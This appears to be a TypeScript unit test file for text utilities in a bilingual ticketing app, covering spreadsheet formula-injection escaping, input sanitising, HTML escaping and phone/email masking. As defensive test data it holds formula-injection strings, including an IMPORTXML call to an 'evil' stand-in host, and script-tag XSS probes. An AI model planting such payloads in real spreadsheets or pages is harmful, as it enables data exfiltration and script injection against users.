import fc from 'fast-check';
import {
  enumCodeFromText,
  escapeHtml,
  formulaSafe,
  maskEmail,
  maskPhone,
  sanitizeUserText,
} from '../../src/core/text';
import { bothLanguages } from '../../src/i18n';

describe('formulaSafe', () => {
  test.each([
    '=IMPORTXML("http://evil","//a")',
    '+cmd',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=HYPERLINK("x")',
    ' =1',
  ])('%j stays text', (input) => {
    expect(formulaSafe(input)).toBe(`'${input}`);
  });
  test.each(['13800138000', '007', '3.14', '1e5', '50%', '2026-01-05', '12:30', 'TRUE', '¥100'])(
    '%j would be parsed by Sheets → apostrophe',
    (input) => {
      expect(formulaSafe(input)).toBe(`'${input}`);
    },
  );
  test.each(['', '漏水了', 'Water leak in unit 3-201', '<script>alert(1)</script>', '😀 thanks'])(
    '%j is left as is',
    (input) => {
      expect(formulaSafe(input)).toBe(input);
    },
  );
});

describe('sanitizeUserText', () => {
  test('trims, strips control chars except newline, CRLF → LF', () => {
    expect(sanitizeUserText('  a\u0007b\r\nc\t ', 100)).toEqual({
      text: 'ab\nc',
      truncated: false,
      originalLength: 4,
    });
  });
  test('50,000 chars capped at 5000 and reported, never silently', () => {
    const result = sanitizeUserText('字'.repeat(50_000), 5000);
    expect(result.text).toHaveLength(5000);
    expect(result).toMatchObject({ truncated: true, originalLength: 50_000 });
  });
  test('emoji are never split in half', () => {
    const result = sanitizeUserText('😀'.repeat(10), 3);
    expect(result.text).toBe('😀😀😀');
  });
  test('empty and non-string input', () => {
    expect(sanitizeUserText(undefined, 10).text).toBe('');
    expect(sanitizeUserText(42, 10).text).toBe('42');
  });
  test('property: never longer than the cap, never a control char', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.integer({ min: 1, max: 50 }), (s, max) => {
        const { text } = sanitizeUserText(s, max);
        // biome-ignore lint/suspicious/noControlCharactersInRegex: asserting none survive.
        return Array.from(text).length <= max && !/[\u0000-\u0009\u000B-\u001F]/.test(text);
      }),
    );
  });
});

test('escapeHtml escapes everything that matters', () => {
  expect(escapeHtml('<script>alert("x")</script> & \'y\'')).toBe(
    '&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#39;y&#39;',
  );
});

test('maskPhone / maskEmail (SPEC §10)', () => {
  expect(maskPhone('13812341234')).toBe('138****1234');
  expect(maskPhone('+86 138 1234 1234')).toBe('138****1234');
  expect(maskPhone('0755-12345678')).toBe('075*****5678');
  expect(maskPhone('')).toBe('');
  expect(maskEmail('zhang.wei@example.com')).toBe('z***@example.com');
  expect(maskEmail('nonsense')).toBe('***');
});

test('enum labels of either language, or the code, give the code', () => {
  expect(enumCodeFromText(bothLanguages, 'status', '处理中')).toBe('inProgress');
  expect(enumCodeFromText(bothLanguages, 'status', ' in PROGRESS ')).toBe('inProgress');
  expect(enumCodeFromText(bothLanguages, 'status', 'waitingOnCustomer')).toBe('waitingOnCustomer');
  expect(enumCodeFromText(bothLanguages, 'severity', '重大')).toBe('major');
  expect(enumCodeFromText(bothLanguages, 'status', 'whatever')).toBeNull();
});
